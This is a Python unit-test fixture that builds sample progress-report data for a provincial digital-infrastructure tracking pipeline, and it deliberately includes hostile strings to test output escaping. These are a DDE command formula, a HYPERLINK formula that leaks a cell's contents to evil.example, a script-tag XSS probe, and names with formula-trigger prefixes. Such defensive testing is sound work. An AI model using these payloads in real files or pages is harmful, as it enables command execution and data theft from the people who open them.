"""A small hand-made ``ReportData`` for the writers' unit tests (every status, a headline with and
one without data, hostile text in names).

The integration tests (test_package.py) build the real thing: raw fixture -> dbt build -> publish ->
quality -> report.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import socket

from exports.model import Headline, ProgressRow, QualitySummary, ReportData

# The pipeline fixture's period and its hostile project name, late and missing departments
# (tests/exports/conftest.py: pipeline_home).
PERIOD = "2024-06"
HOSTILE_PROJECT = "=cmd|' /C calc'!A0"
LATE, MISSING = "CA", "HEALTH"
MALICIOUS = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def free_port() -> int:
    """A TCP port free on 127.0.0.1 right now (for a test server)."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _row(task, ind, name, sector, status, colour, label, **kw) -> ProgressRow:
    return ProgressRow(
        task_id=task,
        task_name=kw.pop("task_name", f"任务 {task}"),
        indicator_id=ind,
        indicator_name=name,
        sector=sector,
        status_code=status,
        status_colour=colour,
        status_label=label,
        **kw,
    )


def make_report_data(period: str = "2024-06", *, forced: bool = False, synthetic: bool = False) -> ReportData:
    progress = [
        _row(
            "M-01",
            "dc_standard_racks",
            "算力枢纽节点数据中心标准机架数",
            "compute",
            "on_track",
            "green",
            "正常推进",
            unit="架",
            display_unit="万架",
            display_scale=10000.0,
            kind="level",
            lead_department="省大数据局",
            co_departments="省通信管理局、省发展改革委",
            target_2022=150000.0,
            target_2024=600000.0,
            target_year=2024,
            target_value=600000.0,
            latest_actual=452300.0,
            as_of_period=period,
            completion=0.78,
            time_elapsed=0.75,
            change_since_last_month=12000.0,
            target_text="60万架",
            completion_rate=452300.0 / 600000.0,
            projected_value=610000.0,
            verdict_code="likely",
            verdict_label="按当前进度预计可完成",
            required_monthly_change=(600000.0 - 452300.0) / 6,
            source_clause="主方案 二(一)1",
            indicator_clause="主方案 一(二); 主方案 二(一)1",
            previous_status_code="at_risk",
        ),
        _row(
            "M-01",
            "dc_pue_avg",
            "算力枢纽节点数据中心平均PUE值",
            "compute",
            "at_risk",
            "yellow",
            "存在风险",
            unit="无量纲",
            display_unit="",
            display_scale=1.0,
            kind="level",
            direction="at_most",
            lead_department="省大数据局",
            target_2024=1.2,
            target_year=2024,
            target_value=1.2,
            latest_actual=1.31,
            as_of_period=period,
            completion=0.62,
            time_elapsed=0.75,
            change_since_last_month=-0.01,
        ),
        _row(
            "M-04",
            "g5_base_stations",
            "累计建成5G基站数",
            "broadband",
            "behind",
            "red",
            "滞后",
            unit="个",
            display_unit="万个",
            display_scale=10000.0,
            kind="cumulative",
            lead_department="省通信管理局",
            target_2022=80000.0,
            target_2024=160000.0,
            target_year=2024,
            target_value=160000.0,
            latest_actual=118000.0,
            as_of_period="2024-03",
            completion=0.40,
            time_elapsed=0.75,
            change_since_last_month=0.0,
            data_age_months=3,
            is_stale=True,
            completion_rate=118000.0 / 160000.0,
            required_monthly_change=(160000.0 - 118000.0) / 6,
        ),
        _row(
            "A4-05",
            "reservoir_monitoring_stations",
            "小型水库雨水情测报及大坝安全监测设施站点改造数(累计)",
            "water",
            "achieved",
            "green",
            "已完成",
            unit="座",
            display_unit="座",
            display_scale=1.0,
            kind="cumulative",
            lead_department="省水利厅",
            target_2022=391.0,
            target_2024=1820.0,
            target_year=2024,
            target_value=1820.0,
            latest_actual=1850.0,
            as_of_period=period,
            completion=1.02,
            time_elapsed=0.75,
        ),
        _row(
            "A5-18",
            "telemedicine_person_times",
            "全省远程医疗服务总量(累计)",
            "health",
            "no_data",
            "grey",
            "无数据",
            unit="人次",
            display_unit="万人次",
            display_scale=10000.0,
            kind="cumulative",
            lead_department="省卫生健康委",
            target_2024=5000000.0,
            target_year=2024,
            target_value=5000000.0,
        ),
        _row(
            "A4-14",
            "gas_trunk_smart_retrofit",
            "完成天然气国家干线及省级支线的智能化改造",
            "pipelines",
            "overdue",
            "red",
            "逾期未完成",
            unit="项",
            display_unit="项",
            kind="milestone",
            direction="done",
            lead_department="省能源局",
            target_2022=1.0,
            target_year=2022,
            target_value=1.0,
            latest_actual=0.0,
            as_of_period=period,
            completion=0.0,
            time_elapsed=1.0,
        ),
        _row(
            "M-13",
            "g5_smart_factories",
            MALICIOUS,
            "industry",
            "on_track",
            "green",
            "正常推进",
            task_name="-2+3 @SUM(A1) 恶意任务名",
            unit="个",
            display_unit="个",
            kind="cumulative",
            lead_department="+省工业和信息化厅",
            co_departments="@省能源局",
            target_2024=100.0,
            target_year=2024,
            target_value=100.0,
            latest_actual=80.0,
            as_of_period=period,
            completion=0.8,
            time_elapsed=0.75,
        ),
    ]
    # the same indicator under a second task (the plan's 主要目标): one row in the main table
    progress.append(
        dataclasses.replace(
            progress[0], task_id="M-GOAL", task_name="主要目标", source_clause="主方案 一(二)"
        )
    )
    # Every target: the racks' 2022 target, met late, beside its 2024 target in force; the others
    # have one target each (the per-target rows of fct_target_assessment).
    targets = [
        dataclasses.replace(
            progress[0],
            task_id="",
            target_year=2022,
            target_value=150000.0,
            target_text="15万架",
            completion_rate=452300.0 / 150000.0,
            status_code="achieved_late",
            status_label="逾期完成",
            status_colour="green",
            previous_status_code="achieved_late",
            deadline_status_code="not_achieved",
            met_late_period="2023-05",
            assessment_note="2022年目标未按期完成，2023年5月完成",
            projected_value=None,
            verdict_code=None,
            verdict_label="",
            required_monthly_change=None,
        ),
        *(dataclasses.replace(p, task_id="") for p in progress[:-1]),  # the last: racks under M-GOAL
    ]
    headlines = [
        Headline(
            "racks",
            "算力枢纽节点数据中心标准机架数",
            "万架",
            10000.0,
            "level",
            452300.0,
            period,
            600000.0,
            2024,
            0.78,
            "on_track",
            "正常推进",
            "green",
            series=tuple((f"2024-{m:02d}", 400000.0 + m * 9000) for m in range(1, 7)),
        ),
        Headline(
            "telemedicine",
            "全省远程医疗服务总量(累计)",
            "万人次",
            10000.0,
            "cumulative",
            None,
            None,
            5000000.0,
            2024,
            None,
            "no_data",
            "无数据",
            "grey",
        ),
    ]
    data = ReportData(
        period=period,
        snapshot_id="snap-20240706T010203Z-abc123",
        snapshot_at=dt.datetime(2024, 7, 6, 1, 2, 3),
        is_forced=forced,
        quality=QualitySummary(
            run_id="run-1",
            checked_at=dt.datetime(2024, 7, 6, 1, 0),
            n_checks=40,
            n_failed=1 if forced else 0,
            n_warned=2,
            blocking_failures=("marts.rpt_responsibility_table: 完成度超出范围",) if forced else (),
        ),
        progress=progress,
        targets=targets,
        headlines=headlines,
        synthetic_inputs=("488 份部门报送文件由演示数据生成器合成",) if synthetic else (),
        sector_names={"compute": "算力枢纽", "broadband": "通信网络"},
        investment_total_yuan=812.5e8,
        investment_as_of=period,
        investment_series=(("2024-04", 780e8), ("2024-05", 800e8), ("2024-06", 812.5e8)),
        investment_status=("on_track", "正常推进", "green"),
        compliance=[
            {
                "department_code": "BDB",
                "department_name": "省大数据局",
                "indicators_expected": 10,
                "status": "on_time",
                "first_received_at": dt.datetime(2024, 7, 3, 9, 30),
                "due_date": dt.date(2024, 7, 5),
                "days_late": 0,
                "files_accepted": 1,
                "revisions": 0,
                "files_quarantined": 0,
                "rows_accepted": 10,
                "rows_rejected": 0,
            },
            {
                "department_code": "CA",
                "department_name": "省通信管理局",
                "indicators_expected": 8,
                "status": "late",
                "first_received_at": dt.datetime(2024, 7, 9, 16, 0),
                "due_date": dt.date(2024, 7, 5),
                "days_late": 4,
                "files_accepted": 2,
                "revisions": 1,
                "files_quarantined": 1,
                "rows_accepted": 7,
                "rows_rejected": 3,
            },
            {
                "department_code": "HEALTH",
                "department_name": "@省卫生健康委",
                "indicators_expected": 5,
                "status": "missing",
                "first_received_at": None,
                "due_date": dt.date(2024, 7, 5),
                "days_late": None,
                "files_accepted": 0,
                "revisions": 0,
                "files_quarantined": 0,
                "rows_accepted": 0,
                "rows_rejected": 0,
            },
        ],
        rates={
            "expected": 3,
            "actual": 2,
            "on_time": 1,
            "late": 1,
            "missing": 1,
            "rate": 2 / 3,
            "on_time_rate": 1 / 3,
            "on_time_days": 5,
        },
        projects=[
            {
                "project_code": "P-001",
                "project_name": "=cmd|' /C calc'!A0",
                "sector": "compute",
                "department_name": "省大数据局",
                "prefecture_name": "贵安新区",
                "total_investment_yuan": 120e8,
                "completed_this_month_yuan": 2e8,
                "cumulative_completed_yuan": 88e8,
                "completion_share": 88 / 120,
                "project_status": "under_construction",
                "as_of_period": period,
                "is_reported": True,
                "is_registered": True,
            },
            {
                "project_code": "P-002",
                "project_name": "贵阳智慧交通一期",
                "sector": "transport",
                "department_name": "省交通运输厅",
                "prefecture_name": "贵阳市",
                "total_investment_yuan": 50e8,
                "completed_this_month_yuan": None,
                "cumulative_completed_yuan": 20e8,
                "completion_share": 0.4,
                "project_status": "under_construction",
                "as_of_period": "2024-03",
                "is_reported": False,
                "is_registered": True,
            },
            {
                "project_code": "X-9",
                "project_name": "库外项目",
                "sector": "compute",
                "department_name": "省大数据局",
                "prefecture_name": "贵阳市",
                "total_investment_yuan": None,
                "completed_this_month_yuan": 0.5e8,
                "cumulative_completed_yuan": 2.5e8,
                "completion_share": None,
                "project_status": "under_construction",
                "as_of_period": period,
                "is_reported": True,
                "is_registered": False,
            },
        ],
        rankings=[
            {
                "indicator_id": "g5_base_stations",
                "indicator_name": "累计建成5G基站数",
                "prefecture_code": code,
                "prefecture_name": name,
                "unit": "个",
                "display_unit": "万个",
                "display_scale": 10000.0,
                "kind": "cumulative",
                "rank": rank,
                "n": 4,
                "value": value,
                "share": value / 118000.0,
                "mom_change": change,
                "is_carried_forward": carried,
                "last_reported_month": "2024-05" if carried else period,
            }
            for rank, (code, name, value, change, carried) in enumerate(
                (
                    ("GY", "贵阳市", 42000.0, 300.0, False),
                    ("ZY", "遵义市", 25000.0, 0.0, True),
                    ("BJ", "毕节市", 18000.0, 120.0, False),
                    ("AS", "安顺市", 9000.0, 35.0, False),
                ),
                start=1,
            )
        ],  # fmt: skip
        investment_basis="indicator",
        investment_by_year=[(2023, 60e8, 2), (2024, 30e8, 3)],
        quality_rows=[
            {
                "outcome": "warned",
                "is_blocking": False,
                "dataset": "staging/stg_submissions__values",
                "check_name": "月环比异常",
                "check_type": "metric",
                "observed_value": 3.0,
                "threshold": "< 1",
                "message": "<script>alert(1)</script>",
            },
        ],
        revisions=[
            {
                "department_name": "省通信管理局",
                "period": "2024-05",
                "indicator_name": "累计建成5G基站数",
                "prefecture_name": "贵州省",
                "display_unit": "万个",
                "display_scale": 10000.0,
                "kind": "cumulative",
                "published_value": 117000.0,
                "revised_value": 118000.0,
                "difference": 1000.0,
                "received_at": dt.datetime(2024, 6, 20, 10, 0),
                "published_at": dt.datetime(2024, 6, 6, 2, 0),
            },
        ],
        next_period="2024-07",
    )
    # 催报: the on-time department left out an indicator and had a row rejected; the others as reported
    extra = {
        "BDB": (["算力枢纽节点数据中心平均PUE值"], [{"sheet_name": "指标", "row_number": 12, "column_letter": "E",
                                              "reason_zh": "数值不是数字"}], 0),
        "CA": ([], [], 3),
        "HEALTH": (["全省远程医疗服务总量(累计)"], [], 2),
    }  # fmt: skip
    data.chasing = [
        {**c, "missing_indicators": extra[c["department_code"]][0], "rejections": extra[c["department_code"]][1],
         "late_in_last_6": extra[c["department_code"]][2], "months_in_last_6": 6}
        for c in data.compliance
    ]  # fmt: skip
    # contacts as exports.data.contacts_of prints them (governance.dim_department_contact)
    contacts = {"BDB": "张三 13800000000", "CA": "李四 0851-1234（号码无法识别）"}
    for c in data.chasing:
        c["contact"] = contacts.get(c["department_code"])
    # remarks as governance.fct_submission_remarks gives them (current rows of the period)
    data.remarks = [
        {"department_code": "CA", "department_name_zh": "省通信管理局", "row_kind": "indicator",
         "row_status": "accepted", "row_status_zh": "已接收", "indicator_id": "g5_base_stations",
         "indicator_name_zh": "累计建成5G基站数", "prefecture_code": "ZY", "prefecture_name_zh": "遵义市",
         "project_code": None, "project_name": None, "remark": "部分基站待验收"},
        {"department_code": "CA", "department_name_zh": "省通信管理局", "row_kind": "indicator",
         "row_status": "accepted", "row_status_zh": "已接收", "indicator_id": "g5_base_stations",
         "indicator_name_zh": "累计建成5G基站数", "prefecture_code": "GZ", "prefecture_name_zh": "全省",
         "project_code": None, "project_name": None, "remark": "含共建共享基站"},
        {"department_code": "HEALTH", "department_name_zh": "@省卫生健康委", "row_kind": "indicator",
         "row_status": "blank", "row_status_zh": "未填报", "indicator_id": "telemedicine_person_times",
         "indicator_name_zh": "全省远程医疗服务总量(累计)", "prefecture_code": "GZ", "prefecture_name_zh": "全省",
         "project_code": None, "project_name": None, "remark": "统计口径调整，下月补报"},
        {"department_code": "BDB", "department_name_zh": "省大数据局", "row_kind": "project",
         "row_status": "accepted", "row_status_zh": "已接收", "indicator_id": None, "indicator_name_zh": None,
         "prefecture_code": None, "prefecture_name_zh": None, "project_code": "P-001",
         "project_name": "贵安数据中心二期", "remark": "=设备到货延迟，建议协调"},
    ]  # fmt: skip
    return data


def record_approval(settings, result, by: str = "张审核") -> None:
    """An approved row for a package built from fixture data (``write_package``): what
    ``exports.approval.approve`` records after a person signs it off, so ``deliver_package`` sends it."""
    from exports.approval import APPROVED, _insert, _now

    now = _now()
    _insert(
        settings,
        {
            "period": result.period,
            "published_at": now,
            "package_path": str(result.path),
            "manifest_sha256": result.manifest_sha256,
            "snapshot_id": result.snapshot_id,
            "is_forced": result.is_forced,
            "decision": APPROVED,
            "decided_by": by,
            "decided_at": now,
            "via": "cli",
        },
    )
